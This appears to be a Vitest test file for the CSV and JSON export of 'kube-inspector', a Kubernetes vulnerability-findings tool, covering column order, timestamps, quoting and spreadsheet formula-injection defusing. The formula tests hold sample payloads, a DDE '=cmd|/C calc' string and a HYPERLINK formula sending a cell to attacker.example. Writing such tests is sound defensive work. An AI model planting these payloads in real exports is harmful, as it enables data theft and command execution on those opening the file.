import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../test/support/csv.ts';
import {
  OPENSSH_ATTRIBUTES,
  OPENSSH_STATUS,
  VISIBLE_HEADERS,
} from '../../test/support/findings.ts';
import { kindInfo } from '../api/v1alpha1/kinds.ts';
import {
  allColumns,
  cellText,
  csvCell,
  epochSeconds,
  printerColumnPath,
  toCsv,
  toJson,
  visibleColumns,
  type FindingObject,
} from './export.ts';

const finding = (name: string, status: Record<string, unknown>, extra: object = {}) =>
  ({
    apiVersion: 'kubeinspector.io/v1alpha1',
    kind: 'Finding',
    metadata: {
      name,
      namespace: 'kube-inspector-system',
      creationTimestamp: '2026-03-01T12:00:00Z',
      managedFields: [{ manager: 'kube-inspector' }],
    },
    status,
    ...extra,
  }) as FindingObject;

const openssh = finding('node-a.cve-2024-6387.openssh-server', OPENSSH_STATUS, {
  spec: { attributes: OPENSSH_ATTRIBUTES },
});

describe('CSV cells', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+SUM(A1)', "'+SUM(A1)"],
    ['-2+3', "'-2+3"],
    ['@cmd', "'@cmd"],
    ['\tfoo', "'\tfoo"],
    ['\rfoo', `"'\rfoo"`],
    ['=HYPERLINK("http://x","y")', `"'=HYPERLINK(""http://x"",""y"")"`],
    ['=cmd|/C calc!A0', "'=cmd|/C calc!A0"],
  ])('defuses a formula: %j becomes %j', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  it.each([
    ['plain', 'plain'],
    ['', ''],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['crlf\r\nend', '"crlf\r\nend"'],
    ["it's", "it's"],
    ['1:9.2p1-2', '1:9.2p1-2'],
    ['a=b', 'a=b'],
  ])('quotes per RFC 4180 only when needed: %j becomes %j', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });
});

describe('datetimes', () => {
  it('become whole epoch seconds (fractions dropped)', () => {
    expect(epochSeconds('2026-03-01T12:00:00Z')).toBe('1772366400');
    expect(epochSeconds('2026-03-01T12:00:00.900Z')).toBe('1772366400');
    expect(epochSeconds('1970-01-01T00:00:00Z')).toBe('0');
  });

  it('keep text that is not a time as it is', () => {
    expect(epochSeconds('soon')).toBe('soon');
  });

  it('are epoch seconds in every datetime column of an exported row', () => {
    const [header, row] = parseCsv(toCsv([openssh], 'all'));
    const at = (name: string) => row![header!.indexOf(name)];
    expect(at('creationTimestamp')).toBe('1772366400');
    expect(at('firstObservedAt')).toBe('1772366400');
    expect(at('lastObservedAt')).toBe('1772409601');
    expect(at('updatedAt')).toBe('1772366400');
    // No RFC 3339 time is left anywhere in the CSV.
    expect(toCsv([openssh], 'all')).not.toMatch(/\d{4}-\d\d-\d\dT/);
    const [vh, vr] = parseCsv(toCsv([openssh], 'visible'));
    expect(vr![vh!.indexOf('Age')]).toBe('1772366400');
  });
});

describe('columns', () => {
  it('"visible" are namespace, name and the Finding printer columns, in order', () => {
    expect(visibleColumns().map((c) => c.header)).toEqual([
      'Namespace',
      'Name',
      ...kindInfo('Finding').printerColumns.map((c) => c.name),
    ]);
  });

  it('every Finding printer column is a plain path the export can read', () => {
    for (const c of kindInfo('Finding').printerColumns) {
      expect(printerColumnPath(c.jsonPath).length).toBeGreaterThan(0);
    }
    expect(() => printerColumnPath('.status.conditions[?(@.type=="Ready")].status')).toThrow(
      /not a plain field path/,
    );
  });

  it('"all" start with the object identity and attributes, then status fields in schema order', () => {
    const headers = allColumns().map((c) => c.header);
    expect(headers.slice(0, 4)).toEqual(['namespace', 'name', 'creationTimestamp', 'attributes']);
    expect(headers.slice(4, 9)).toEqual([
      'type',
      'title',
      'description',
      'recommendation.text',
      'recommendation.url',
    ]);
    for (const h of [
      'severity',
      'status',
      'vulnerabilityId',
      'aliases',
      'cvss.baseScore',
      'inspectorScore',
      'inspectorScoreDetails.adjustedCvss.adjustments.metric',
      'packages.name',
      'packages.fixedInVersion',
      'packages.sourceLayerHash',
      'epss.score',
      'resource.id',
      'resource.imageTags',
      'networkReachabilityDetails.openPortRange.begin',
      'networkReachabilityDetails.networkPath.componentId',
      'firstObservedAt',
      'lastObservedAt',
      'updatedAt',
    ]) {
      expect(headers).toContain(h);
    }
    expect(headers.indexOf('severity')).toBeLessThan(headers.indexOf('packages.name'));
    expect(headers.at(-1)).toBe('updatedAt');
    expect(headers).not.toContain('observedGeneration');
    expect(headers.some((h) => h.startsWith('conditions'))).toBe(false);
    expect(new Set(headers).size).toBe(headers.length);
  });

  it('the docs list the "all" columns in the same order', async () => {
    const { readFile } = await import('node:fs/promises');
    const page = await readFile(new URL('../../docs/cli.md', import.meta.url), 'utf8');
    const block = /<!-- all-columns -->\n([\s\S]*?)<!-- \/all-columns -->/.exec(page)?.[1];
    const listed = [...(block ?? '').matchAll(/`([^`]+)`/g)].map((m) => m[1]);
    expect(listed).toEqual(allColumns().map((c) => c.header));
  });
});

describe('cell values', () => {
  const column = (header: string) => allColumns().find((c) => c.header === header)!;

  it('lists of objects give one column per field, element i in position i', () => {
    expect(cellText(openssh, column('packages.name'))).toBe('openssh-server; openssh-client');
    expect(cellText(openssh, column('packages.version'))).toBe('1:9.2p1-2; 1:9.2p1-2');
    expect(cellText(openssh, column('packages.fixedInVersion'))).toBe('1:9.2p1-2+deb12u3; ');
  });

  it('lists of strings are joined; maps are key=value sorted by key; absent is empty', () => {
    expect(cellText(openssh, column('aliases'))).toBe('DSA-5724-1; DEBIAN-CVE-2024-6387');
    expect(cellText(openssh, column('attributes'))).toBe('owner=platform; ticket=SEC-1');
    expect(cellText(openssh, column('epss.score'))).toBe('');
    expect(cellText(openssh, column('cvss.baseScore'))).toBe('');
    expect(cellText(openssh, column('inspectorScore'))).toBe('8.1');
  });
});

describe('the CSV', () => {
  it('has a header row, one row per finding sorted by namespace and name, and CRLF line ends', () => {
    const b = finding('b', { severity: 'LOW' });
    const a = finding('a', { severity: 'CRITICAL' });
    const other = { ...finding('a', {}), metadata: { name: 'a', namespace: 'apps' } };
    const text = toCsv([b, a, other], 'visible');
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replaceAll('\r\n', '')).not.toContain('\n');
    const rows = parseCsv(text);
    expect(rows[0]).toEqual(VISIBLE_HEADERS);
    expect(rows.slice(1).map((r) => `${r[0]}/${r[1]}`)).toEqual([
      'apps/a',
      'kube-inspector-system/a',
      'kube-inspector-system/b',
    ]);
    expect(rows.every((r) => r.length === rows[0]!.length)).toBe(true);
  });

  it('defuses formulas hidden in any field and reads back to the original text', () => {
    const evil = finding('evil', {
      title: '=HYPERLINK("http://attacker.example/?"&A1,"click")',
      description: 'line one,\n"quoted"',
      resource: { type: 'WORKLOAD', id: '@SUM(1+1)' },
      packages: [{ name: '-bad', version: '+1' }],
    });
    const text = toCsv([evil], 'all');
    const [header, row] = parseCsv(text);
    const at = (h: string) => row![header!.indexOf(h)];
    expect(at('title')).toBe(`'=HYPERLINK("http://attacker.example/?"&A1,"click")`);
    expect(at('description')).toBe('line one,\n"quoted"');
    expect(at('resource.id')).toBe("'@SUM(1+1)");
    expect(at('packages.name')).toBe("'-bad");
    expect(at('packages.version')).toBe("'+1");
    for (const cell of row!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('has only a header for no findings', () => {
    expect(parseCsv(toCsv([], 'all'))).toHaveLength(1);
  });
});

describe('the JSON', () => {
  it('"all" is an array of the objects, sorted, with RFC 3339 times and no managedFields', () => {
    const parsed = JSON.parse(toJson([openssh, finding('a', {})], 'all')) as FindingObject[];
    expect(parsed.map((f) => f.metadata.name)).toEqual(['a', openssh.metadata.name]);
    expect(parsed[1]!.status?.firstObservedAt).toBe('2026-03-01T12:00:00Z');
    expect(parsed[1]!.spec?.attributes).toEqual({ ticket: 'SEC-1', owner: 'platform' });
    expect(parsed[1]!.metadata.managedFields).toBeUndefined();
    expect(parsed[1]!.kind).toBe('Finding');
  });

  it('"visible" is an array of rows keyed by the column names, absent values null', () => {
    const [row] = JSON.parse(toJson([openssh], 'visible')) as Record<string, unknown>[];
    expect(row).toEqual({
      Namespace: 'kube-inspector-system',
      Name: openssh.metadata.name,
      Severity: 'HIGH',
      Type: 'PACKAGE_VULNERABILITY',
      Title: 'CVE-2024-6387 - openssh-server',
      Resource: 'node-a',
      Status: 'ACTIVE',
      Score: 8.1,
      Fix: 'YES',
      Age: '2026-03-01T12:00:00Z',
    });
  });
});
